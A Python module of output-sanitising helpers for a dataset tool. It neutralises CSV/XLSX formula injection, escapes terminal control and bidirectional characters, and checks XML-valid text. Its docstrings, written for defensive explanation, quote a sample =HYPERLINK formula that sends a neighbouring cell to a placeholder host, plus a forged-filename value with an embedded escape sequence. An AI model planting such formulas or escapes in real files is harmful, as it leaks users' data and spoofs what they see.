"""Spreadsheet-safe cells and terminal-safe text: the two ways a dataset's text can turn live.

*Spreadsheets* evaluate a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, after a tab
or carriage return, whatever follows), so a name such as ``=HYPERLINK("http://x/?"&A1, "click")``
becomes a working link that sends a neighbouring cell away. Every CSV and XLSX the tool writes
passes its text through :func:`spreadsheet_text`, which prefixes such a cell with an apostrophe
as OWASP recommends ("CSV Injection"). :func:`restore_text` undoes it, and the readers call it,
so a dataset written and loaded again is exactly the dataset it was. The mapping is a bijection:
a value that itself starts with apostrophes before a trigger gets one more apostrophe.

*Terminals* obey control characters (ESC sequences repaint the screen, NUL and friends hide
text) and bidirectional overrides (U+202E shows text backwards). :func:`inert` shows them as
visible escapes (``\\x1b``, ``\\u202e``, ``\\n``) in human-facing output; every message line
that echoes a name a user or a file controls goes through it (the CLI's notes, warnings,
errors and validation messages: :func:`mapper.cli.common.say`), so a file named
``bad\\nforged.yaml`` cannot forge a line of its own.

*XML* 1.0 allows only tab, LF, CR, U+0020-U+D7FF, U+E000-U+FFFD and U+10000 up: any other code
point (C0 controls, U+FFFE, U+FFFF, a lone surrogate) makes GraphML, GEXF, XLSX and SVG files
not well-formed, so validation refuses them in every field (:func:`has_control`).
"""

from __future__ import annotations

import csv
import io
import itertools
import re
from collections.abc import Iterable, Iterator
from typing import Any

# Characters that make a spreadsheet treat a cell as a formula (OWASP "CSV Injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# First characters that may make a cell need its apostrophe (a trigger, or apostrophes before one).
_FIRST_CHECKED = frozenset([*FORMULA_TRIGGERS, "'"])

# C0 and C1 control characters (but not tab and newline, which text may hold), DEL, and the
# Unicode bidirectional formatting characters (Trojan Source, CVE-2021-42574).
_BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
# Code points XML 1.0 forbids beyond the C0 controls: lone surrogates (a JSON "\\ud800" reads as
# one, and no UTF-8 writer can encode it) and the noncharacters U+FFFE and U+FFFF.
_NOT_XML = "\ud800-\udfff\ufffe\uffff"
# Line and paragraph separators: some terminals and editors break the line there.
_LINE_BREAKS = "\u2028\u2029"
CONTROL_RE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f" + _BIDI + _NOT_XML + _LINE_BREAKS + "]")
# Control characters text never needs (tab, newline and carriage return are text) and code
# points XML cannot hold: refused by validation in every field; bidirectional marks stay
# allowed there (Arabic and Hebrew use them).
STORED_CONTROL_RE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f" + _NOT_XML + "]")
# The same, tab and newline included: what a one-line terminal field must never carry.
TERMINAL_UNSAFE_RE = re.compile("[\x00-\x1f\x7f-\x9f" + _BIDI + _NOT_XML + _LINE_BREAKS + "]")
# Escapes a reader knows from source code, for the characters that have one.
_SHORT_ESCAPES = {"\n": "\\n", "\r": "\\r", "\t": "\\t"}


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet would evaluate ``text`` typed into a cell."""
    return text[:1] in FORMULA_TRIGGERS


def spreadsheet_text(value: Any) -> Any:
    """``value`` as a cell a spreadsheet shows as text (non-strings pass through unchanged)."""
    if not isinstance(value, str) or (value[:1] not in _FIRST_CHECKED):
        return value  # the usual cell: no string method called (millions of cells at scale)
    # Leading apostrophes are counted so that restore_text can tell ours from the user's.
    return "'" + value if value.lstrip("'")[:1] in FORMULA_TRIGGERS else value


def restore_text(value: Any) -> Any:
    """The original text of a cell written by :func:`spreadsheet_text` (inverse function)."""
    if isinstance(value, str) and value.startswith("'") and value.lstrip("'")[:1] in FORMULA_TRIGGERS:
        return value[1:]
    return value


def csv_text(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> str:
    """CSV with a header, every text cell neutralised; ``None`` is an empty cell."""
    return "".join(csv_lines(header, rows))


def csv_lines(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """:func:`csv_text` in pieces of whole records (a quoted cell may hold newlines), for streaming.

    A row holding a carriage return is written fully quoted: the writer quotes only the
    characters of its line terminator (``\\n``), and a bare CR outside quotes ends a row.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    quoted = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL)
    checked = _FIRST_CHECKED
    records = iter(rows)
    chunk: list[Iterable[Any]] = [header]  # the header at once, then records in chunks
    while chunk:
        # The usual cell (text that cannot start a formula) is taken as it is, without a call.
        cells = [
            [
                "" if v is None else v if type(v) is str and v[:1] not in checked else spreadsheet_text(v)
                for v in row
            ]
            for row in chunk
        ]
        writer.writerows(cells)
        if "\r" in buffer.getvalue():  # rare: a cell holds a CR; this chunk again, row by row
            buffer.seek(0)
            buffer.truncate()
            for row in cells:
                (quoted if any(isinstance(c, str) and "\r" in c for c in row) else writer).writerow(row)
        yield buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()
        chunk = list(itertools.islice(records, CSV_RECORDS_PER_CHUNK))


#: Records :func:`csv_lines` writes per piece: fewer, larger writes, still a bounded buffer.
CSV_RECORDS_PER_CHUNK = 256


# List cells (aliases, tags, sources) hold their items separated by "|". An item holding "|"
# writes it as "\\|" and a backslash as "\\\\", so ``a|b`` stays one alias; any other backslash
# reads as written (``C:\\data`` typed in a spreadsheet is that text).
LIST_SEPARATOR = "|"
_LIST_TOKEN_RE = re.compile(r"\\[\\|]|\|")  # an escaped "\\" or "|", or a separator


def list_cell(items: Iterable[Any]) -> str:
    """The items of a list field as one cell, exactly as :func:`list_items` reads them back.

    >>> list_cell(["a|b", "c"])
    'a\\\\|b|c'
    """
    return LIST_SEPARATOR.join(str(item).replace("\\", "\\\\").replace("|", "\\|") for item in items)


def list_items(cell: str) -> list[str]:
    """The items of a list cell (inverse of :func:`list_cell`), empty items included.

    >>> list_items("a\\\\|b|c\\\\\\\\|C:\\\\data")
    ['a|b', 'c\\\\', 'C:\\\\data']
    """
    if "\\" not in cell:  # the usual case: no escapes, a plain split
        return cell.split(LIST_SEPARATOR)
    items: list[str] = []
    current: list[str] = []
    pos = 0
    for match in _LIST_TOKEN_RE.finditer(cell):
        current.append(cell[pos : match.start()])
        if match.group() == LIST_SEPARATOR:
            items.append("".join(current))
            current = []
        else:
            current.append(match.group()[1])
        pos = match.end()
    current.append(cell[pos:])
    items.append("".join(current))
    return items


# A carriage return does not survive XML (parsers turn CR and CRLF into LF), so XLSX cells
# hold it as OOXML's escape ``_x000D_``, as Excel does. Text that itself looks like such an
# escape (``_x0041_``) gets OOXML's escaped underscore ``_x005F_`` in front, so it reads back as
# written.
_XLSX_ESCAPE_RE = re.compile("_(?=x[0-9A-Fa-f]{4}_)|\r")
_XLSX_UNESCAPE_RE = re.compile("_x005F_(?=x[0-9A-Fa-f]{4}_)|_x000D_")


def xlsx_text(text: str) -> str:
    """``text`` for an XLSX cell: carriage returns as ``_x000D_`` (see :func:`xlsx_restore`)."""
    if "\r" not in text and "_x" not in text:
        return text
    return _XLSX_ESCAPE_RE.sub(lambda m: "_x000D_" if m.group() == "\r" else "_x005F_", text)


def xlsx_restore(text: str) -> str:
    """The text :func:`xlsx_text` wrote (Excel's own ``_x000D_`` for a CR reads the same way)."""
    if "_x" not in text:
        return text
    return _XLSX_UNESCAPE_RE.sub(lambda m: "\r" if m.group() == "_x000D_" else "_", text)


def _escape(match: re.Match[str]) -> str:
    char = match.group()
    code = ord(char)
    short = _SHORT_ESCAPES.get(char)
    return short or (f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}")


def inert(text: str, keep_newlines: bool = False) -> str:
    """``text`` with control, bidirectional and line-breaking characters shown as escapes, never
    obeyed (a newline becomes ``\\n`` unless ``keep_newlines``).

    >>> inert("bad\\nforged.yaml:1: note: all fine \\x1b]0;TITLE\\x07")
    'bad\\\\nforged.yaml:1: note: all fine \\\\x1b]0;TITLE\\\\x07'
    """
    if text.isprintable():  # the usual case: every character it escapes is unprintable
        return text
    pattern = CONTROL_RE if keep_newlines else TERMINAL_UNSAFE_RE
    return pattern.sub(_escape, text)


def has_control(text: str) -> str | None:
    """The first control character (not tab or newline) or XML-invalid code point (U+FFFE,
    U+FFFF, a lone surrogate) in ``text`` as an escape, or None."""
    match = STORED_CONTROL_RE.search(text)
    return _escape(match) if match else None
